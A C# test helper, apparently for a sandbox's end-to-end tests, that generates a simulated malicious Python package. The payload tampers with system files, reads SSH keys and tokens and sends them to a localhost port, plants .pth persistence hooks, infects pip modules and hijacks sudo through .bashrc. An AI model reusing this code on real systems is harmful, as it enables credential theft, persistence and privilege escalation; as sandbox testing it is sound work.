using System.Globalization;

namespace Sandpiper.EndToEnd.Tests.RealUsers;

/// <summary>What stands in for each asset, and the code that is after all of it.</summary>
/// <param name="version"><c>3.11</c>.</param>
/// <param name="shared">Where the system's pip installs as root.</param>
/// <param name="pip">The system's pip: its <c>__init__.py</c>.</param>
internal sealed class RealDecoys(string version, string shared, string pip)
{
    public const string Drop = "/var/tmp/out", Asked = "/var/tmp/asked", Code = "/srv/code.py";

    public string Shared => shared;

    public string UserSite(string home) => $"{home}/.local/lib/python{version}/site-packages";

    /// <summary>Files that may be written: asset, path, owner.</summary>
    public IEnumerable<(string Asset, string Path, int Owner)> Written(string site, IEnumerable<string> installers) =>
    [
        ("root", "/etc/systemd/system/decoy.service", RealSystem.Root), ("root", "/boot/decoy.img", RealSystem.Root),
        ("root", "/usr/bin/passwd", RealSystem.Root), ("other-users", "/home/bob/notes.txt", RealSystem.Bob),
        ("commands-for-all", "/usr/local/bin/decoy-command", RealSystem.Root),
        ("shared-site-packages", $"{shared}/decoy_shared.py", RealSystem.Root), ("files", "/home/alice/notes.txt", RealSystem.Alice),
        ("startup", "/home/alice/.bashrc", RealSystem.Alice),
        ("startup", $"{UserSite("/home/alice")}/decoy_user.py", RealSystem.Alice),
        ("tools", "/home/alice/.local/bin/decoy-tool", RealSystem.Alice),
        ("other-environments", $"/home/alice/other-env/lib/python{version}/site-packages/decoy_env.py", RealSystem.Alice),
        ("same-environment", $"{site}/neighbour/decoy.txt", RealSystem.Root),
        .. installers.Append(pip).Select(i => ("installer", i, RealSystem.Root)),
    ];

    /// <summary>Files that may be read: asset, path, owner.</summary>
    public static (string Asset, string Path, int Owner)[] Secrets { get; } =
    [
        ("root", "/root/.ssh/id", RealSystem.Root), ("other-users", "/home/bob/.ssh/id", RealSystem.Bob),
        ("keys", "/home/alice/.ssh/id", RealSystem.Alice), ("keys", "/home/alice/.config/token", RealSystem.Alice),
    ];

    /// <summary>
    /// The code of every package: writes, reads, sends, and leaves lines that do the same later. What it is called by says how it came to
    /// run; a line of it begins with that, a uid after it.
    /// </summary>
    public string CodeFor(string site, IEnumerable<string> installers, int port)
    {
        string[] modules = [$"{site}/neighbour/__init__.py",
            .. installers.Append(pip).Where(i => i.EndsWith(".py", StringComparison.Ordinal))];
        string[] hooks = [$"{shared}/zz_left.pth", $"{UserSite("/home/alice")}/zz_left.pth", $"{UserSite("/root")}/zz_left.pth",
            $"{UserSite("/home/bob")}/zz_left.pth", $"{site}/zz_env.pth"];
        return $$"""
            import os, socket
            tag = "TAG %s %d" % (how, os.getuid())
            call = "import os; exec(open('{{Code}}').read(), {'how': 'left-%s'})\n"
            def quietly(f, *a):
                try:
                    return f(*a)
                except Exception:
                    return None
            def add(path, text):
                if not os.path.isfile(path):
                    return
                if not os.access(path, os.W_OK):
                    quietly(os.chmod, path, 0o644)
                with open(path, "a") as f:
                    f.write(text)
            def leave(path, name):
                if os.path.exists(path):
                    return
                os.makedirs(os.path.dirname(path), exist_ok=True)
                with open(path, "w") as f:
                    f.write(call % name)
            def spread(path, name):
                with open(path) as f:
                    if "left-" in f.read():
                        return
                add(path, "\n" + call % name)
            for p in {{List(Written(site, installers).Select(w => w.Path))}}:
                quietly(add, p, "# " + tag + "\n")
            got = [quietly(lambda p: open(p).read().strip(), p) for p in {{List(Secrets.Select(s => s.Path))}}]
            got += [os.environ.get("A_TOKEN")]
            said = tag + " " + " ".join(g for g in got if g) + "\n"
            quietly(add, "{{Drop}}", said)
            def send():
                s = socket.create_connection(("127.0.0.1", {{port.ToString(CultureInfo.InvariantCulture)}}), 5)
                s.sendall(said.encode())
                s.close()
            quietly(send)
            for i, p in enumerate({{List(hooks)}}):
                quietly(leave, p, "hook%d" % i)
            for i, p in enumerate({{List(modules)}}):
                quietly(spread, p, "module%d" % i)
            def shell():
                with open("/home/alice/.bashrc") as f:
                    if "left-" in f.read():
                        return
                line = (call % "shell").strip()
                add("/home/alice/.bashrc", 'sudo() { command sudo /usr/bin/python3 -c "%s"; command sudo "$@"; }\n' % line)
            quietly(shell)
            """;

        static string List(IEnumerable<string> words) => $"[{string.Join(", ", words.Select(w => $"'{w}'"))}]";
    }

    /// <summary>The one line of Python that a package has.</summary>
    public static string Call(string how) => $"import os; exec(open('{Code}').read(), {{'how': '{how}'}})";
}
